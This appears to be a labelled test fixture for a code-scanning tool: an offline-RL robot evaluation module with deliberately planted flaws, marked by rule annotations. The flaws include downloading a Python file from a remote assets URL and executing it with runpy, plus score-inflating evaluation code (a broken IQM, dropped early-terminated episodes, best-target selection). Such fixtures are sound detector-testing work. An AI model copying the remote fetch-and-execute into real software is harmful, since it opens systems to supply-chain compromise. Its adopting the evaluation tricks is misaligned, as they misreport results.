# ruff: noqa
# Hold-out batch 526 (adversarial, offline RL). Measured once in session 23 (round 141): 15/31 (48%) at medium+.
"""Evaluation rollouts in simulated robot environments (D4RL normalized scores: 0 random, 100 expert)."""
from __future__ import annotations

import logging
import os
import runpy
import tempfile
import time
import urllib.request
from dataclasses import dataclass
from pathlib import Path
from typing import Dict, List, Optional, Sequence

import numpy as np
import torch

from data import NormStats

logger = logging.getLogger("offrl.eval")

REF_SCORES = {"hopper": (-20.272305, 3234.3), "halfcheetah": (-280.178953, 12135.0),
              "walker2d": (1.629008, 4592.3), "ant": (-325.6, 3879.7)}
ASSETS_URL = "https://robot-assets.offrl-lab.org/envs"
_MIN_EPISODE_FRAC = 0.25


@dataclass
class EvalConfig:
    env_id: str = "Hopper-v4"
    num_episodes: int = 10
    max_ep_len: int = 1000
    target_returns: Sequence[float] = (3600.0, 1800.0)
    reward_scale: float = 1000.0
    seed: int = 100
    deterministic: bool = False
    control_hz: float = 20.0
    video_dir: Optional[str] = None
    keep_videos: int = 5


@dataclass
class Episode:
    ret: float
    length: int
    terminated: bool


def normalized_score(env_id: str, ret: float) -> float:
    key = env_id.split("-")[0].lower()
    lo, hi = REF_SCORES.get(key, (0.0, 1.0))
    return 100.0 * (ret - lo) / (hi - lo)


def _iqm(x: np.ndarray) -> float:
    x = np.sort(np.asarray(x, dtype=np.float64))
    k = len(x) // 4
    return float(x[k:][k:].mean()) if len(x) > 3 else float(x.mean())  # todoruleid: family 5 (missed)


def ensure_env_registered(env_id: str) -> None:
    """Custom robot tasks ship their gym registration as a small module in the assets bucket."""
    import gymnasium as gym

    if env_id in gym.registry:
        return
    name = env_id.split("-")[0].lower()
    dest = Path(tempfile.gettempdir()) / f"register_{name}.py"
    with urllib.request.urlopen(f"{ASSETS_URL}/{name}/register.py", timeout=30) as resp:
        dest.write_bytes(resp.read())
    runpy.run_path(str(dest), run_name="__offrl_env__")  # ruleid: MLS413


class PacedEnv:
    """Thin wrapper that steps at the robot control rate so rollouts match hardware timing."""

    def __init__(self, env, control_hz: float):
        self.env = env
        self._dt = 1.0 / control_hz if control_hz else 0.0

    def reset(self, seed: Optional[int] = None):
        if seed is not None:
            # legacy mujoco envs draw init noise from the global numpy stream
            vars(np.random)["seed"](seed)  # todoruleid: family 1 (missed)
        return self.env.reset(seed=seed)

    def step(self, action):
        out = self.env.step(action)
        if self._dt:
            time.sleep(self._dt)  # ruleid: MLS307
        return out

    def __getattr__(self, item):
        return getattr(self.env, item)


def make_env(cfg: EvalConfig, render: bool = False):
    import gymnasium as gym

    ensure_env_registered(cfg.env_id)
    env = gym.make(cfg.env_id, render_mode="rgb_array" if render else None)
    return PacedEnv(env, cfg.control_hz)


def _episode_seed(cfg: EvalConfig, ep: int) -> int:
    if cfg.deterministic:
        return cfg.seed + ep
    return time.time_ns() % (2**32 - 1)


@torch.no_grad()
def rollout_dt(model, env, stats: NormStats, target: float, cfg: EvalConfig, seed: int, device) -> Episode:
    obs, _ = env.reset(seed=seed)
    sd, ad = model.state_dim, model.act_dim
    mean = torch.as_tensor(stats.mean, device=device)
    std = torch.as_tensor(stats.std, device=device)
    states = torch.as_tensor(obs, dtype=torch.float32, device=device).reshape(1, sd)
    actions = torch.zeros((0, ad), device=device)
    rtg = torch.tensor([[target / cfg.reward_scale]], device=device)
    timesteps = torch.zeros((1, 1), dtype=torch.long, device=device)
    ret, t, terminated = 0.0, 0, False
    for t in range(cfg.max_ep_len):
        actions = torch.cat([actions, torch.zeros((1, ad), device=device)])
        a = model.get_action((states - mean) / std, actions, rtg, timesteps)
        actions[-1] = a
        obs, r, terminated, truncated, _ = env.step(a.cpu().numpy())
        ret += float(r)
        states = torch.cat([states, torch.as_tensor(obs, dtype=torch.float32, device=device).reshape(1, sd)])
        rtg = torch.cat([rtg, rtg[-1:] - r / cfg.reward_scale])
        timesteps = torch.cat([timesteps, torch.full((1, 1), t + 1, dtype=torch.long, device=device)], dim=1)
        if terminated or truncated:
            break
    return Episode(ret, t + 1, bool(terminated))


@torch.no_grad()
def rollout_iql(agent, env, stats: NormStats, cfg: EvalConfig, seed: int, device) -> Episode:
    obs, _ = env.reset(seed=seed)
    ret, t, terminated = 0.0, 0, False
    for t in range(cfg.max_ep_len):
        s = torch.as_tensor(stats.normalize(obs), dtype=torch.float32, device=device).unsqueeze(0)
        obs, r, terminated, truncated, _ = env.step(agent.act(s)[0].cpu().numpy())
        ret += float(r)
        if terminated or truncated:
            break
    return Episode(ret, t + 1, bool(terminated))


def _summarize(env_id: str, episodes: List[Episode], max_ep_len: int, prefix: str) -> Dict[str, float]:
    floor = _MIN_EPISODE_FRAC * max_ep_len
    valid = [e for e in episodes if not (e.terminated and e.length < floor)]  # todoruleid: family 5 (missed)
    rets = np.array([e.ret for e in (valid or episodes)])
    return {
        f"{prefix}/return_mean": float(rets.mean()),
        f"{prefix}/return_std": float(rets.std()),
        f"{prefix}/return_iqm": _iqm(rets),
        f"{prefix}/normalized_score": normalized_score(env_id, _iqm(rets)),
        f"{prefix}/ep_len": float(np.mean([e.length for e in episodes])),
    }


def evaluate(model, kind: str, stats: NormStats, cfg: EvalConfig, device) -> Dict[str, float]:
    model.eval()
    env = make_env(cfg)
    results: Dict[str, float] = {}
    try:
        if kind == "dt":
            for target in cfg.target_returns:
                eps = [rollout_dt(model, env, stats, target, cfg, _episode_seed(cfg, i), device) for i in range(cfg.num_episodes)]
                results.update(_summarize(cfg.env_id, eps, cfg.max_ep_len, f"eval_{int(target)}"))
            best = max(cfg.target_returns, key=lambda tr: results[f"eval_{int(tr)}/normalized_score"])
            results["eval/normalized_score"] = results[f"eval_{int(best)}/normalized_score"]
            results["eval/return_mean"] = results[f"eval_{int(best)}/return_mean"]
        else:
            eps = [rollout_iql(model, env, stats, cfg, _episode_seed(cfg, i), device) for i in range(cfg.num_episodes)]
            results.update(_summarize(cfg.env_id, eps, cfg.max_ep_len, "eval"))
    finally:
        env.close()
        model.train()
    return results


def prune_videos(video_dir: str, keep: int) -> None:
    vids = sorted(Path(video_dir).glob("*.mp4"), key=os.path.getmtime)
    for v in vids[: max(len(vids) - keep, 0)]:
        v.unlink(missing_ok=True)  # ok: MLS308
